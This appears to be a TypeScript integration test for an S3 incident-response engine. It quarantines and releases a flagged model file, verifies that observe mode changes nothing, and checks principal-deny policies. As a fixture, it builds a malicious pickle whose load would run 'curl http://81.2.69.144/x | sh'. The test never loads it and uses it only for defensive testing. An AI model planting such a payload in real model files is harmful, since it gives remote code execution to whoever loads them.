/**
 * The S3 playbooks through the real engine (createResponder, embedded journal, local evidence) against moto_server:
 * - the "model bucket" scenario end to end: a pickled model flagged by Malware Protection for S3 (THREATS_FOUND)
 *   → contain → the object read back (not served, every version kept, tagged, its bytes and SHA-256 in the case)
 *   → release → served again exactly as before; a clean object next to it is never touched;
 * - observe mode makes zero mutating AWS calls, for both playbooks;
 * - an S3 finding with accessKeyDetails: a bucket incident whose deny names the principal, and the identity
 *   subjects alongside (each gets its own incident where its playbook exists).
 */
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  CreateBucketCommand,
  GetBucketPolicyCommand,
  GetObjectCommand,
  GetObjectTaggingCommand,
  GetPublicAccessBlockCommand,
  HeadObjectCommand,
  ListObjectVersionsCommand,
  PutBucketVersioningCommand,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NO_PLAYBOOK } from '../../src/contracts/playbook-info.js';
import { scanResultFinding } from '../../src/findings/scan-result-finding.js';
import { PLAYBOOKS } from '../../src/playbooks/playbook-list.js';
import { emulatorChanges, emulatorState } from '../support/emulator-state.js';
import { isReadOnlyOperation, startHarness, type Harness } from '../support/engine-harness.js';
import { bucketFinding, objectFinding, scanResult } from '../support/s3-findings.js';

const S3_POLICY = `
version: 1
defaults: { mode: approve }
rules:
  - name: s3-data-access
    match: { type: ["Exfiltration:S3/", "Impact:S3/", "Policy:S3/", "UnauthorizedAccess:S3/", "Discovery:S3/"], subject: [s3-bucket] }
    mode: contain
  - name: malicious-model-artefacts
    match: { type: ["Object:S3/"], subject: [s3-object, s3-bucket] }
    mode: contain
`;

// A pickle whose load runs a shell command (the opcodes of `os.system(...)`); never loaded here.
const PICKLE = Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), Buffer.from("cos\nsystem\n(S'curl http://81.2.69.144/x | sh'\ntR.", 'latin1')]);

let h: Harness;
let s3: S3Client;
beforeAll(async () => {
  h = await startHarness();
  s3 = new S3Client({ endpoint: h.moto.endpoint, region: 'us-east-1', forcePathStyle: true, credentials: { accessKeyId: 'test', secretAccessKey: 'test' } });
});
afterAll(async () => {
  await h?.close();
});

const policyOf = async (bucket: string): Promise<string | null> =>
  s3.send(new GetBucketPolicyCommand({ Bucket: bucket })).then(
    (o) => o.Policy ?? null,
    (err: Error) => {
      if (err.name === 'NoSuchBucketPolicy') return null;
      throw err;
    },
  );

describe('model bucket: a malicious pickle, end to end', () => {
  it('scan result THREATS_FOUND → contain → read back → release → served again; the clean model next to it untouched', async () => {
    const bucket = 'ml-models-prod';
    const key = 'llm/v3/model.pkl';
    await s3.send(new CreateBucketCommand({ Bucket: bucket }));
    await s3.send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration: { Status: 'Enabled' } }));
    const flagged = await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: PICKLE, Tagging: 'GuardDutyMalwareScanStatus=THREATS_FOUND' }));
    const clean = await s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'llm/v2/model.safetensors', Body: Buffer.from('clean weights'), Tagging: 'GuardDutyMalwareScanStatus=NO_THREATS_FOUND' }));

    // The clean object's scan result is no finding at all: nothing to respond to.
    expect(scanResultFinding(scanResult({ bucket, key: 'llm/v2/model.safetensors', versionId: clean.VersionId!, status: 'NO_THREATS_FOUND' }))).toBeUndefined();
    const finding = scanResultFinding(scanResult({ bucket, key, versionId: flagged.VersionId!, eTag: flagged.ETag!.replaceAll('"', ''), status: 'THREATS_FOUND' }))!;
    expect(finding.type.raw).toBe('Object:S3/MaliciousFile');

    const { responder } = await h.engine({ policy: S3_POLICY });
    const result = await responder.respond(finding);
    expect(result.outcomes.map((o) => [o.subject.kind, o.decision.effectiveMode, o.status])).toEqual([['s3-object', 'contain', 'contained']]);
    const o = result.outcomes[0]!;
    expect(o.steps.map((s) => [s.stepId, s.status])).toEqual([
      ['capture-object', 'done'],
      ['tag-object', 'done'],
      ['hide-object', 'done'],
    ]);

    // Read back: not served, both versions kept, the flagged one tagged; the evidence holds its bytes and hash.
    await expect(s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }))).rejects.toMatchObject({ name: 'NoSuchKey' });
    const versions = await s3.send(new ListObjectVersionsCommand({ Bucket: bucket, Prefix: key }));
    expect((versions.Versions ?? []).map((v) => v.VersionId)).toEqual([flagged.VersionId]);
    expect(versions.DeleteMarkers).toHaveLength(1);
    const tags = await s3.send(new GetObjectTaggingCommand({ Bucket: bucket, Key: key, VersionId: flagged.VersionId! }));
    expect(tags.TagSet).toEqual(expect.arrayContaining([{ Key: 'tourniquet:quarantine', Value: o.incidentId }]));
    const capture = o.steps.find((s) => s.stepId === 'capture-object')!.output as { sha256: string; artefact: string; copied: boolean };
    expect(capture.sha256).toBe(createHash('sha256').update(PICKLE).digest('hex'));
    const incident = await responder.getIncident(o.incidentId);
    const dir = fileURLToPath(o.evidenceLocation ?? incident.evidenceLocation!);
    expect((await readFile(join(dir, capture.artefact))).equals(PICKLE)).toBe(true);

    // The clean model is served as it was.
    const cleanHead = await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: 'llm/v2/model.safetensors' }));
    expect(cleanHead.VersionId).toBe(clean.VersionId);
    expect((await s3.send(new GetObjectTaggingCommand({ Bucket: bucket, Key: 'llm/v2/model.safetensors' }))).TagSet).toEqual([{ Key: 'GuardDutyMalwareScanStatus', Value: 'NO_THREATS_FOUND' }]);

    const released = await responder.release(o.incidentId, { by: 'alice', reason: 'rescanned: false positive' });
    expect(released.released.sort()).toEqual(['hide-object', 'tag-object']);
    expect(released.failed).toEqual([]);
    const back = await s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }));
    expect(back.VersionId).toBe(flagged.VersionId);
    expect(Buffer.from(await back.Body!.transformToByteArray()).equals(PICKLE)).toBe(true);
    const after = await s3.send(new ListObjectVersionsCommand({ Bucket: bucket, Prefix: key }));
    expect(after.DeleteMarkers ?? []).toEqual([]);
    expect((await s3.send(new GetObjectTaggingCommand({ Bucket: bucket, Key: key, VersionId: flagged.VersionId! }))).TagSet).toEqual([{ Key: 'GuardDutyMalwareScanStatus', Value: 'THREATS_FOUND' }]);
  });
});

describe('observe mode makes zero mutating AWS calls', () => {
  it('s3-bucket and s3-object', async () => {
    const bucket = 'observe-models';
    await s3.send(new CreateBucketCommand({ Bucket: bucket }));
    await s3.send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration: { Status: 'Enabled' } }));
    const put = await s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'm.pkl', Body: PICKLE }));
    const everything = await emulatorState(h.moto.endpoint);
    const { responder, calls } = await h.engine({ policy: S3_POLICY });
    const r1 = await responder.respond(bucketFinding({ bucket, id: 'observe-bucket', accessKey: { accessKeyId: 'AKIA3XFRBF23EXAMPLE7', principalId: 'AIDA3XFRBF23EXAMPLE07', userName: 'bot', userType: 'IAMUser' } }), 'observe');
    const r2 = await responder.respond(objectFinding({ bucket, key: 'm.pkl', versionId: put.VersionId!, id: 'observe-object' }), 'observe');
    const outcomes = [...r1.outcomes, ...r2.outcomes];
    expect(outcomes.map((o) => [o.subject.kind, o.status])).toEqual(
      expect.arrayContaining([
        ['s3-bucket', 'observed'],
        ['s3-object', 'observed'],
      ]),
    );
    for (const o of outcomes) expect(o.steps.every((s) => s.status === 'planned')).toBe(true);
    expect(calls.filter((c) => !isReadOnlyOperation(c.operation))).toEqual([]);
    // And from the emulator's own state, not the engine's call log: nothing changed anywhere.
    expect(emulatorChanges(everything, await emulatorState(h.moto.endpoint))).toEqual([]);
    expect(await policyOf(bucket)).toBeNull();
    await expect(s3.send(new GetPublicAccessBlockCommand({ Bucket: bucket }))).rejects.toMatchObject({ name: 'NoSuchPublicAccessBlockConfiguration' });
    expect((await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: 'm.pkl' }))).VersionId).toBe(put.VersionId);
  });
});

describe('an S3 finding with accessKeyDetails', () => {
  it('yields a bucket incident whose deny names the principal, and the identity subjects for their own playbooks', async () => {
    const bucket = 'feature-store';
    await s3.send(new CreateBucketCommand({ Bucket: bucket }));
    const finding = bucketFinding({ bucket, id: 'exfil-1', accessKey: { accessKeyId: 'AKIA3XFRBF23EXAMPLE8', principalId: 'AIDA3XFRBF23EXAMPLE08', userName: 'data-bot', userType: 'IAMUser' }, remoteIp: '81.2.69.144' });
    const kinds = finding.subjects.map((s) => s.kind);
    expect(kinds).toContain('s3-bucket');
    expect(kinds).toContain('access-key');
    const key = finding.subjects.find((s) => s.kind === 'access-key')!;
    expect(key.id).toBe('AKIA3XFRBF23EXAMPLE8');

    const { responder } = await h.engine({ policy: S3_POLICY });
    const planned = responder.plan(finding);
    const bucketPlan = planned.find((p) => p.subject.kind === 's3-bucket')!;
    expect(bucketPlan.plan.steps.find((s) => s.id === 'deny-principal')!.input).toEqual({ bucket, target: { kind: 'userid', value: 'AIDA3XFRBF23EXAMPLE08' } });
    // Every identity subject whose kind has a playbook of its own is handled too (the identity playbooks are
    // written on other branches: this holds before and after they land).
    const withPlaybook = (kind: string): boolean => PLAYBOOKS.some((p) => p.name !== NO_PLAYBOOK && p.subjectKinds.includes(kind as never));
    const expected = finding.subjects.filter((s) => withPlaybook(s.kind)).map((s) => s.kind).sort();
    expect(planned.map((p) => p.subject.kind).sort()).toEqual(expected);
    expect(expected).toContain('s3-bucket');

    // A stolen role session reading the bucket: the bucket incident, and the session's own (iam-role-session playbook).
    const bySession = bucketFinding({ bucket, id: 'exfil-2', accessKey: { accessKeyId: 'ASIA3XFRBF23EXAMPLE8', principalId: 'AROA3XFRBF23EXAMPLE08:chat-backend', userName: 'chat-backend-role', userType: 'AssumedRole' } });
    const sessionPlans = responder.plan(bySession);
    expect(sessionPlans.map((p) => [p.subject.kind, p.plan.playbook])).toEqual(expect.arrayContaining([['s3-bucket', 's3-bucket'], ['iam-role-session', 'iam-role-session']]));
    expect(sessionPlans.find((p) => p.subject.kind === 's3-bucket')!.plan.steps.find((s) => s.id === 'deny-principal')!.input).toEqual({ bucket, target: { kind: 'userid', value: 'AROA3XFRBF23EXAMPLE08:chat-backend' } });

    const result = await responder.respond(finding);
    const outcome = result.outcomes.find((o) => o.subject.kind === 's3-bucket')!;
    expect(outcome.status).toBe('contained');
    expect(new Set(result.outcomes.map((o) => o.incidentId)).size).toBe(result.outcomes.length);
    const statements = (JSON.parse((await policyOf(bucket))!) as { Statement: Array<{ Condition: unknown }> }).Statement;
    expect(statements).toEqual([expect.objectContaining({ Effect: 'Deny', Condition: { StringEquals: { 'aws:userid': 'AIDA3XFRBF23EXAMPLE08' } } })]);
  });
});
